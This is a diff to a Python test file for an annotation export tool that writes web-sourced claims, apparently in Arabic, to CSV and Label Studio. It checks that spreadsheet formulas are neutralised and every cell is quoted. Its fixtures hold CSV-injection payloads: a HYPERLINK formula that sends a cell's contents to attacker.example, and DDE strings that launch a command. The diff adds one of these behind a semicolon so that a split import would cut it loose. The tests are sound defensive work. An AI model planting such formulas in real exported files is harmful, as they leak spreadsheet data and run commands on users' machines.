@@ -16,7 +16,7 @@ from warehouse import annotation as store
 
 HOSTILE_CLAIM = '=HYPERLINK("http://attacker.example/?"&D3,"اضغط هنا")'
 HOSTILE_TITLE = "+1+cmd|' /C calc'!A0"
-HOSTILE_ARTICLE = "-2+3 @SUM(A1:A9) نص الخبر"
+HOSTILE_ARTICLE = "-2+3 @SUM(A1:A9) نص الخبر;=cmd|' /C calc'!A0"
 HOSTILE_URL = "@https://news.example/x"
 
 
@@ -31,9 +31,9 @@ def _rows(path: Path) -> list[dict[str, str]]:
 
 
 def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe_and_others_are_kept() -> None:
-    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
+    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1", "   -1"):
         assert inert_cell(formula) == "'" + formula
-    for text in ("الادعاء رقم 1", "", "1-2", "a=b", " =1", "'=1"):
+    for text in ("الادعاء رقم 1", "", "1-2", "a=b", "'=1", "   "):
         assert inert_cell(text) == text
 
 
@@ -49,6 +49,9 @@ def test_task_sheets_carry_the_web_text_inert_and_label_studio_gets_it_unchanged
                         for r in rows)
     assert all(r["claim_url"].startswith("https://") and r["pair_id"] and not r["pair_id"].startswith("'")
                for r in rows)
+    # every cell is quoted: an import that splits on ";" or tabs cannot cut a formula out of one
+    raw = (done.directory / "ann-1.csv").read_text(encoding="utf-8").splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in raw)
     [task, *_] = json.loads((done.directory / "ann-1.json").read_text(encoding="utf-8"))
     assert task["data"]["claim"] == HOSTILE_CLAIM and task["data"]["article"] == HOSTILE_ARTICLE
 
